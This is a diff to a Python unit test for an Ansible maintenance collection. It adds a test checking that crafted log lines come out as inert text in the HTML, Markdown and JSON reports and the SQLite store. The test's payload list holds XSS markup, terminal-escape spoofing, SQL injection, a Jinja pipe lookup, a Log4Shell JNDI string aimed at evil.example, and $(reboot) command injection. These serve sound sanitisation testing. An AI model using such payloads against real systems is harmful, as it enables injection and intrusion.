@@ -18,6 +18,7 @@ from ansible_collections.ops.maintenance.plugins.module_utils import (
     package_verify,
     security_review,
     sqlite_upkeep,
+    sqlite_upkeep_options,
 )
 from ansible_collections.ops.maintenance.plugins.module_utils.host import Host, Ran
 from ansible_collections.ops.maintenance.plugins.module_utils.record import Finding
@@ -25,6 +26,7 @@ from ansible_collections.ops.maintenance.plugins.module_utils.security_common im
 from ansible_collections.ops.maintenance.plugins.plugin_utils import report_html, report_json, report_markdown
 from ansible_collections.ops.maintenance.plugins.plugin_utils.report_build import build
 from ansible_collections.ops.maintenance.plugins.plugin_utils.report_groups import group_findings
+from ansible_collections.ops.maintenance.plugins.plugin_utils.store import Store
 from ansible_collections.ops.maintenance.tests.unit.plugins.module_utils.maintained import defaults, service
 from ansible_collections.ops.maintenance.tests.unit.plugins.plugin_utils.sample_runs import START, SampleRun
 
@@ -106,9 +108,9 @@ def upkeep(folder, check_mode):
         with contextlib.closing(sqlite3.connect(path)) as connection:
             connection.execute("CREATE TABLE orders (id INTEGER PRIMARY KEY, note TEXT)")
             connection.commit()
-    spec = {name: option.get("default") for name, option in sqlite_upkeep.DATABASE.items()} | {"path": str(path)}
+    spec = {name: option.get("default") for name, option in sqlite_upkeep_options.DATABASE.items()} | {"path": str(path)}
     given = {"databases": [spec], "run_id": "weekly-1", "deadline": 0.0, "state_dir": str(folder / "kept"), "self_test": False}
-    return sqlite_upkeep.run({**defaults(sqlite_upkeep.OPTIONS), **given}, check_mode, Host())
+    return sqlite_upkeep.run({**defaults(sqlite_upkeep_options.OPTIONS), **given}, check_mode, Host())
 
 
 def activity(made, role):
@@ -188,7 +190,7 @@ def attacked(folder, *addresses):
     common = {"state_dir": str(folder / "kept"), "deadline": 0.0, "self_test": False, "run_id": "weekly-1"}
     source = {"name": "app", "paths": [str(folder / "app.jsonl")], "format": "auto", "timezone": "UTC", "silence_hours": 0.0}
     review = {**{name: option.get("default") for name, option in log_analysis.OPTIONS.items()}, **common, "sources": [source]}
-    given = {"login_sources": [{"name": "app", "paths": [str(folder / "app.jsonl")]}], "journal": "false"}
+    given = {"login_sources": [{"name": "app", "paths": [str(folder / "app.jsonl")]}], "journal": "false", "updates": False}
     return log_analysis.run(review, False, At()), security_review.run({**filled(security_review.OPTIONS, given), **common}, False, At())
 
 
@@ -220,6 +222,79 @@ def test_attacks_from_different_addresses_stay_apart(tmp_path):
     made = report(run.outcome("shop", "web1").ended())
     heads = [group.id for group in group_findings(made.findings) if group.id in IDS]
     assert sorted(heads) == ["logs.brute_force", "security.brute_force"]
+
+
+# crafted lines of logs
+
+CRAFTED = [
+    "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "\x1b[2J\x1b]0;owned\x07\u202egnp.exe",
+    "'; DROP TABLE runs; DELETE FROM findings WHERE '1'='1",
+    "x\n2026-11-20 10:00:00 CRITICAL forged line\n| forged | table |\n# forged heading",
+    "{{ lookup('pipe', 'id') }} ${jndi:ldap://evil.example/a} $(reboot) `reboot`",
+    '"}\n{"level": "CRITICAL", "message": "forged"}',
+    "\x00\udcff w" + "w" * 3000,
+]
+
+
+def crafted_logs(folder):
+    """The same texts as messages and account names of an application, of sshd, and as requests to a web server."""
+    moment = NOW - timedelta(hours=3)
+    stamp, day = moment.isoformat(), moment.strftime("%d/%b/%Y:%H:%M:%S +0000")
+    app, auth, web = [], [], []
+    for text in CRAFTED:
+        bare = text.replace("\n", "\\n").replace('"', "'")
+        said = {"timestamp": stamp, "level": "ERROR", "event": "login_failed", "username": text, "client_ip": text}
+        app += [json.dumps({**said, "message": f"Authentication failed for {text}"})] * 20
+        auth += [f"{stamp} web sshd[7]: Failed password for invalid user {bare} from 192.0.2.5 port 1 ssh2"] * 20
+        web += [f'192.0.2.5 - {bare} [{day}] "GET /{bare} HTTP/1.1" 500 1 "-" "{bare}"'] * 20
+    for name, lines in (("app.jsonl", app), ("auth.log", auth), ("access.log", web)):
+        (folder / name).write_bytes(b"".join(line.encode("utf-8", "surrogateescape") + b"\n" for line in lines))
+
+
+def reviews(folder):
+    """Both reviews of these logs."""
+
+    class At(Host):
+        def now(self):
+            return NOW
+
+    common = {"state_dir": str(folder / "kept"), "deadline": 0.0, "self_test": False, "run_id": "weekly-1"}
+    names = {"app": "app.jsonl", "auth": "auth.log", "web": "access.log"}
+    sources = [{"name": name, "paths": [str(folder / file)], "error_limit": 1} for name, file in names.items()]
+    review = {**filled(log_analysis.OPTIONS, {"sources": sources}), **common}
+    logins = [
+        {"name": "app", "paths": [str(folder / "app.jsonl")]},
+        {"name": "auth", "paths": [str(folder / "auth.log")], "format": "auth"},
+    ]
+    given = {"login_sources": logins, "journal": "false", "updates": False}
+    return log_analysis.run(review, False, At()), security_review.run({**filled(security_review.OPTIONS, given), **common}, False, At())
+
+
+def test_crafted_lines_of_logs_are_text_in_every_report_and_in_the_store(tmp_path):
+    crafted_logs(tmp_path)
+    run = begun()
+    for outcome in reviews(tmp_path):
+        tell(run, outcome)
+    run.outcome("shop", "web1").ended()
+    made = report(run)
+    told = {f.id: f for f in made.findings}
+    assert told["logs.errors"].state != "ok"
+    assert told["security.failed_logins"].state != "ok"
+    page, text, data = (render(made) for render in (report_html.render, report_markdown.render, report_json.render))
+    assert "owned" in page
+    assert "DROP TABLE" in page, "what was said is shown, and only shown"
+    assert page.count("<script") == 1
+    assert "<img" not in page
+    for one in (page, text, data):
+        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff\ud800-\udfff]", one)
+    assert not [line for line in text.splitlines() if line.startswith(("| forged", "# forged"))]
+    with Store(f"sqlite:///{tmp_path}/store.sqlite") as store:
+        store.save_run(run.lines)
+        kept = {row["id"] for row in store.findings_of(run.lines[0]["run_id"])}
+        assert set(told) <= kept
+        assert store.lines_of(run.lines[0]["run_id"]) == run.lines
+    assert max(len(json.dumps(line)) for line in run.lines) < 64 * 1024
 
 
 # an activity that was done and found something
